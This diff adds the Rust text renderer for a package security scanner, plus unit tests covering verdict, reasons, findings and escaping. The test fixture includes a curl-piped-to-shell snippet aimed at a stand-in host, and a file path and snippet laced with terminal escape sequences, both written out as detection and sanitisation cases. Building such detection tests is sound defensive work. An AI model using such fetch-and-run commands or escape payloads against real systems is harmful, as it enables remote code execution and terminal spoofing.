@@ -1,0 +1,331 @@
+//! Output for people: the verdict first, then the reasons, then each finding as a miette diagnostic with a
+//! labelled snippet, then what was skipped.
+
+use crate::snippet_source::SnippetSource;
+use crate::ToolInfo;
+use miette::{Diagnostic, GraphicalReportHandler, GraphicalTheme, LabeledSpan, Severity};
+use skill_scan_model::{
+    escape_for_terminal as esc, Finding, RecommendedAction, TargetReport, VerdictLevel,
+};
+use std::fmt::{self, Write};
+
+#[derive(Debug, Clone, Copy, Default)]
+pub struct TextOptions {
+    pub color: bool,
+    /// Also list `log`-level findings and parse notes.
+    pub verbose: bool,
+}
+
+/// One line per target: `BLOCK  path (kind): N findings`.
+pub fn render_quiet(reports: &[TargetReport]) -> String {
+    let mut out = String::new();
+    for report in reports {
+        let _ = writeln!(
+            out,
+            "{:<6} {} ({}): {} finding(s)",
+            report.verdict.as_str().to_uppercase(),
+            esc(&report.target),
+            report.kind,
+            report.findings.len()
+        );
+    }
+    out
+}
+
+pub fn render_text(tool: ToolInfo, reports: &[TargetReport], options: TextOptions) -> String {
+    let mut out = String::new();
+    for (n, report) in reports.iter().enumerate() {
+        if n > 0 {
+            out.push('\n');
+        }
+        render_target(&mut out, tool, report, options);
+    }
+    out
+}
+
+fn render_target(out: &mut String, tool: ToolInfo, report: &TargetReport, options: TextOptions) {
+    let shown: Vec<&Finding> = report
+        .findings
+        .iter()
+        .filter(|f| options.verbose || f.action > RecommendedAction::Log)
+        .collect();
+    let _ = writeln!(
+        out,
+        "{} {} · {} ({})",
+        tool.name,
+        tool.version,
+        esc(&report.target),
+        report.kind
+    );
+    let _ = writeln!(
+        out,
+        "verdict: {}  ({} finding(s), {} file(s) scanned, {} skipped)",
+        paint(
+            verdict_word(report.verdict),
+            verdict_colour(report.verdict),
+            options.color
+        ),
+        report.findings.len(),
+        report.files_scanned,
+        report.skipped.len()
+    );
+    if !report.reasons.is_empty() {
+        out.push_str("\nreasons:\n");
+        for reason in &report.reasons {
+            let marker = if reason.compound { "compound " } else { "" };
+            let _ = writeln!(
+                out,
+                "  - {marker}{} / {}: {} [{}]",
+                reason.category,
+                reason.scope,
+                esc(&reason.rationale),
+                reason.finding_ids.join(", ")
+            );
+        }
+    }
+    if !shown.is_empty() {
+        out.push_str("\nfindings:\n");
+        let handler = handler(options.color);
+        for finding in &shown {
+            let mut rendered = String::new();
+            match handler.render_report(&mut rendered, &FindingDiagnostic::new(finding)) {
+                Ok(()) => out.push_str(&rendered),
+                Err(_) => {
+                    let _ = writeln!(
+                        out,
+                        "  {}:{}:{} {}",
+                        esc(&finding.path),
+                        finding.line,
+                        finding.column,
+                        finding.rule_id
+                    );
+                }
+            }
+        }
+    }
+    let hidden = report.findings.len() - shown.len();
+    if hidden > 0 {
+        let _ = writeln!(
+            out,
+            "\n({hidden} log-level finding(s) not shown; --verbose lists them)"
+        );
+    }
+    if !report.skipped.is_empty() {
+        out.push_str("\nskipped:\n");
+        for skipped in &report.skipped {
+            let _ = writeln!(out, "  - {}: {}", esc(&skipped.path), esc(&skipped.reason));
+        }
+    }
+    if options.verbose && !report.diagnostics.is_empty() {
+        out.push_str("\nnotes:\n");
+        for note in &report.diagnostics {
+            let _ = writeln!(out, "  - {}: {}", esc(&note.path), esc(&note.message));
+        }
+    }
+}
+
+fn handler(color: bool) -> GraphicalReportHandler {
+    let theme = if color {
+        GraphicalTheme::unicode()
+    } else {
+        GraphicalTheme::unicode_nocolor()
+    };
+    GraphicalReportHandler::new_themed(theme)
+        .with_width(120)
+        .with_links(false)
+}
+
+fn verdict_word(level: VerdictLevel) -> &'static str {
+    match level {
+        VerdictLevel::Allow => "ALLOW",
+        VerdictLevel::Review => "REVIEW",
+        VerdictLevel::Block => "BLOCK",
+    }
+}
+
+fn verdict_colour(level: VerdictLevel) -> &'static str {
+    match level {
+        VerdictLevel::Allow => "32",
+        VerdictLevel::Review => "33",
+        VerdictLevel::Block => "1;31",
+    }
+}
+
+fn paint(text: &str, colour: &str, enabled: bool) -> String {
+    if enabled {
+        format!("\u{1b}[{colour}m{text}\u{1b}[0m")
+    } else {
+        text.to_string()
+    }
+}
+
+/// A finding seen through miette's eyes.
+#[derive(Debug)]
+struct FindingDiagnostic {
+    message: String,
+    code: String,
+    help: String,
+    severity: Severity,
+    source: SnippetSource,
+    label: LabeledSpan,
+}
+
+impl FindingDiagnostic {
+    fn new(finding: &Finding) -> Self {
+        // Escaping can lengthen the text, so the highlight is recomputed on the escaped pieces.
+        let (start, end) = finding.snippet_highlight;
+        let raw = &finding.snippet;
+        let (start, end) = (
+            start.min(raw.len()),
+            end.min(raw.len()).max(start.min(raw.len())),
+        );
+        let before = esc(raw.get(..start).unwrap_or(""));
+        let hit = esc(raw.get(start..end).unwrap_or(""));
+        let after = esc(raw.get(end..).unwrap_or(""));
+        let label_text = format!(
+            "{} ({}, {})",
+            finding.rule_id, finding.context, finding.scope
+        );
+        FindingDiagnostic {
+            message: format!(
+                "{}  [{}:{}:{}]",
+                finding.message,
+                esc(&finding.path),
+                finding.line,
+                finding.column
+            ),
+            code: finding.rule_id.clone(),
+            help: finding.why.clone(),
+            severity: match finding.action {
+                RecommendedAction::Block => Severity::Error,
+                RecommendedAction::Review => Severity::Warning,
+                RecommendedAction::Log => Severity::Advice,
+            },
+            label: LabeledSpan::new(Some(label_text), before.len(), hit.len().max(1)),
+            source: SnippetSource {
+                name: esc(&finding.path),
+                text: format!("{before}{hit}{after}"),
+                first_line: finding.line.saturating_sub(1),
+            },
+        }
+    }
+}
+
+impl fmt::Display for FindingDiagnostic {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.message)
+    }
+}
+
+impl std::error::Error for FindingDiagnostic {}
+
+impl Diagnostic for FindingDiagnostic {
+    fn code<'a>(&'a self) -> Option<Box<dyn fmt::Display + 'a>> {
+        Some(Box::new(&self.code))
+    }
+    fn severity(&self) -> Option<Severity> {
+        Some(self.severity)
+    }
+    fn help<'a>(&'a self) -> Option<Box<dyn fmt::Display + 'a>> {
+        (!self.help.is_empty()).then(|| Box::new(&self.help) as Box<dyn fmt::Display>)
+    }
+    fn source_code(&self) -> Option<&dyn miette::SourceCode> {
+        Some(&self.source)
+    }
+    fn labels(&self) -> Option<Box<dyn Iterator<Item = LabeledSpan> + '_>> {
+        Some(Box::new(std::iter::once(self.label.clone())))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::render_json;
+    use skill_scan_model::*;
+
+    fn report() -> TargetReport {
+        let finding = Finding {
+            id: "f1".into(),
+            rule_id: "RCE001".into(),
+            rule_name: "curl-piped-to-shell".into(),
+            category: ThreatCategory::RemoteExec,
+            signal: SignalClass::MaliciousBehavior,
+            action: RecommendedAction::Block,
+            scope: ArtifactScope::PackageRootArtifact,
+            context: Context::Code,
+            language: Language::Shell,
+            file_kind: FileKind::Shell,
+            path: "install\u{1b}[31m.sh".into(),
+            line: 12,
+            column: 3,
+            end_line: 12,
+            end_column: 20,
+            message: "Remote script piped into a shell".into(),
+            why: "Runs whatever the server sends.".into(),
+            snippet: "  curl -s \u{1b}]8;;x\u{7}http://x | sh".into(),
+            snippet_highlight: (2, 33),
+            mitre: vec!["T1059.004".into()],
+            related: vec![],
+        };
+        TargetReport {
+            target: "pkg".into(),
+            kind: PackageKind::Npm,
+            verdict: VerdictLevel::Block,
+            reasons: vec![VerdictReason {
+                scope: ArtifactScope::PackageRootArtifact,
+                category: ThreatCategory::RemoteExec,
+                signal: SignalClass::MaliciousBehavior,
+                rationale: "Runs code fetched at run time".into(),
+                compound: false,
+                finding_ids: vec!["f1".into()],
+            }],
+            package: PackageSummary::default(),
+            findings: vec![finding],
+            skipped: vec![Skipped {
+                path: "link".into(),
+                reason: "symbolic link".into(),
+            }],
+            diagnostics: vec![],
+            files_scanned: 3,
+        }
+    }
+
+    const TOOL: ToolInfo = ToolInfo {
+        name: "skill-scan",
+        version: "0.0.0",
+    };
+
+    #[test]
+    fn text_shows_verdict_reasons_and_located_findings_without_raw_escapes() {
+        let text = render_text(TOOL, &[report()], TextOptions::default());
+        assert!(!text.contains('\u{1b}'), "{text}");
+        assert!(!text.contains('\u{7}'), "{text}");
+        assert!(text.contains("verdict: BLOCK"));
+        assert!(text.contains("RCE001"));
+        assert!(text.contains(":12:3]"), "{text}");
+        assert!(text.contains("12 │"), "real line number shown: {text}");
+        assert!(text.contains("Runs whatever the server sends."));
+        assert!(text.contains("skipped:"));
+    }
+
+    #[test]
+    fn quiet_is_one_line_per_target() {
+        assert_eq!(
+            render_quiet(&[report()]),
+            "BLOCK  pkg (npm): 1 finding(s)\n"
+        );
+    }
+
+    #[test]
+    fn json_has_the_contract_fields() {
+        let json = render_json(TOOL, &[report()]);
+        let value: serde_json::Value = serde_json::from_str(&json).unwrap();
+        assert_eq!(value["schema_version"], "1");
+        let target = &value["targets"][0];
+        assert_eq!(target["verdict"], "block");
+        assert_eq!(target["findings"][0]["scope"], "package_root_artifact");
+        assert_eq!(target["findings"][0]["context"], "code");
+        assert_eq!(target["reasons"][0]["compound"], false);
+        assert!(target["findings"][0].get("why").is_none());
+    }
+}
